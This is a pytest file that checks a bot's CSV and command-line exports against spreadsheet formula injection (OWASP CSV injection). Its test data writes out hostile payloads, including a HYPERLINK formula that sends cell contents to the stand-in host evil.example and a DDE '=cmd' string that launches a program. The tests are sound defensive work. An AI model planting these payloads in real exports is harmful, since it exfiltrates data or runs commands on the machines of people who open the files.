"""Issue 24: no cell of an export runs as a spreadsheet formula (OWASP CSV injection), whoever typed it.

Before: a display name `=HYPERLINK("https://evil.example/?"&A2,"Click")`, notes `=cmd|' /C calc'!A0`
and a version `+1+1` reached `/export csv` and `python -m bot export` as they were typed.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from core.anchors.export import export_csv, export_json, parse_csv

from .builders import CATALOG, make

ROOT = Path(__file__).parents[3]
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
)


def _hostile() -> list:
    return [
        make(n + 1, 20.0 + n, name=text, notes=text, framework_version=text, evidence="https://x.example/")
        for n, text in enumerate(FORMULAS)
    ]


def _live_cells(data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_no_text_cell_starts_a_formula() -> None:
    data = export_csv(_hostile(), CATALOG)
    assert _live_cells(data) == []
    # What was typed comes back exactly through the data set's own reader, and JSON is as typed.
    assert parse_csv(data) == json.loads(export_json(_hostile(), CATALOG))["anchors"]


@pytest.mark.parametrize("text", FORMULAS[:3])
def test_the_bot_export_command_writes_no_formula(tmp_path: Path, text: str) -> None:
    import asyncio

    from core.storage.sqlite import SqliteStorage

    db = tmp_path / "t.db"

    async def seed() -> None:
        from core.storage.records import Actor, NewSubmission

        storage = SqliteStorage(str(db))
        await storage.open()
        sub = make(1, 21.0, name=text, notes=text)
        new = NewSubmission(sub.measurement, sub.submitter, sub.created_at, sub.chat_id)
        stored = await storage.add_submission(new)
        await storage.approve(stored.id, Actor("console", "bob", "bob"), sub.created_at)
        await storage.close()

    asyncio.run(seed())
    out = tmp_path / "out.csv"
    done = subprocess.run(
        [sys.executable, "-m", "bot", "export", str(out), "--db", str(db)],
        cwd=ROOT, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert _live_cells(out.read_bytes()) == []
